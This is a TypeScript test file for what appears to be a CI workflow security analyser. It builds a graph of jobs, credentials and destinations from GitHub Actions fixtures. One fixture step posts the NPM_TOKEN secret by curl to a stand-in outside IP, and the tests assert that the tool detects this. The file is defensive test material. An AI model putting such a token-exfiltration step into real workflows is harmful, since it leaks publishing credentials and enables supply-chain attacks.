import assert from 'node:assert/strict';
import { test } from 'node:test';
import { buildGraph } from '../../src/analysis/graph.ts';
import { loadRepository } from '../../src/engine/load.ts';
import { renderGraph } from '../../src/report/graph.ts';

const RELEASE = `name: release
on:
  push:
  release:
    types: [published]
permissions:
  id-token: write
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: some-org/setup-magic@v1
      - run: python -m build
  publish:
    needs: build
    runs-on: ubuntu-latest
    environment: pypi
    steps:
      - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc
  npm:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - run: npm publish
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
      - run: curl -d "t=\${{ secrets.NPM_TOKEN }}" https://203.0.113.5/x
  docs:
    uses: ./.github/workflows/docs.yml
    secrets: inherit
`;
const DOCS = `on: workflow_call
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/deploy-pages@v4
`;

async function graphOf() {
  const { repository } = await loadRepository([
    { path: '.github/workflows/release.yml', text: RELEASE, kind: 'workflow' },
    { path: '.github/workflows/docs.yml', text: DOCS, kind: 'workflow' },
  ]);
  return buildGraph(repository);
}

test('jobs, credentials and destinations are linked as the workflow allows', async () => {
  const { graph, reach } = await graphOf();
  const edge = (from: string, to: string, kind: string) => graph.edges.some((item) => item.from === from && item.to === to && item.kind === kind);
  assert.ok(edge('trigger:.github/workflows/release.yml:push', 'workflow:.github/workflows/release.yml', 'starts'));
  assert.ok(edge('job:.github/workflows/release.yml#build', 'job:.github/workflows/release.yml#publish', 'needs'));
  assert.ok(edge('job:.github/workflows/release.yml#docs', 'workflow:.github/workflows/docs.yml', 'calls'));
  // Every step of a job with id-token: write can request a token; only the publisher does.
  const oidc = 'credential:oidc:.github/workflows/release.yml';
  assert.ok(graph.edges.some((item) => item.from === 'step:.github/workflows/release.yml#build/1' && item.to === oidc && item.label === 'can request'));
  assert.ok(graph.edges.some((item) => item.from === 'step:.github/workflows/release.yml#publish/0' && item.to === oidc && item.label === 'requests'));
  assert.ok(edge('step:.github/workflows/release.yml#publish/0', 'index:pypi', 'sends'));
  assert.ok(edge('step:.github/workflows/release.yml#npm/0', 'index:npm', 'sends'));
  assert.ok(edge('step:.github/workflows/release.yml#npm/1', 'destination:host:203.0.113.5', 'sends'));
  assert.ok(edge('step:.github/workflows/docs.yml#deploy/0', 'github:pages', 'sends'));

  const build = reach.find((item) => item.job.id === 'build')!;
  assert.equal(build.oidc, 'workflow');
  assert.deepEqual(build.publishes, []);
  assert.deepEqual(build.sharedWith.map((step) => step.uses?.raw), ['some-org/setup-magic@v1']);
  assert.deepEqual(build.exposures, ['push']);
  const publish = reach.find((item) => item.job.id === 'publish')!;
  assert.equal(publish.publishes[0]?.auth, 'oidc');
  assert.deepEqual(publish.sharedWith, [], 'the publishing action is the intended holder');
  const npm = reach.find((item) => item.job.id === 'npm')!;
  assert.deepEqual(npm.secrets, ['NPM_TOKEN']);
  assert.deepEqual(npm.writeScopes, ['contents']);
  assert.equal(npm.oidc, false);
});

test('every format renders, and edges only name nodes that exist or are needs targets', async () => {
  const { graph, reach } = await graphOf();
  const ids = new Set(graph.nodes.map((node) => node.id));
  for (const edge of graph.edges) {
    assert.ok(ids.has(edge.to), `edge to unknown node ${edge.to}`);
    assert.ok(ids.has(edge.from), `edge from unknown node ${edge.from}`);
  }
  const text = renderGraph({ graph, reach, errors: [] }, 'text');
  assert.match(text, /job publish {2}← needs build/);
  assert.match(text, /publishes to pypi with pypa\/gh-action-pypi-publish, Trusted Publishing/);
  assert.match(text, /3 jobs can mint OIDC tokens; 1 of them publish; not publishing: \.github\/workflows\/release\.yml#build, \.github\/workflows\/release\.yml#docs/);
  const json = JSON.parse(renderGraph({ graph, reach, errors: [] }, 'json'));
  assert.equal(json.version, 1);
  assert.equal(json.jobs.length, 5);
  const dot = renderGraph({ graph, reach, errors: [] }, 'dot');
  assert.match(dot, /^digraph cordon \{/);
  assert.equal((dot.match(/->/g) ?? []).length, graph.edges.length);
  const mermaid = renderGraph({ graph, reach, errors: [] }, 'mermaid');
  assert.match(mermaid, /^flowchart LR/);
  assert.equal((mermaid.match(/-\.?->/g) ?? []).length, graph.edges.length);
});
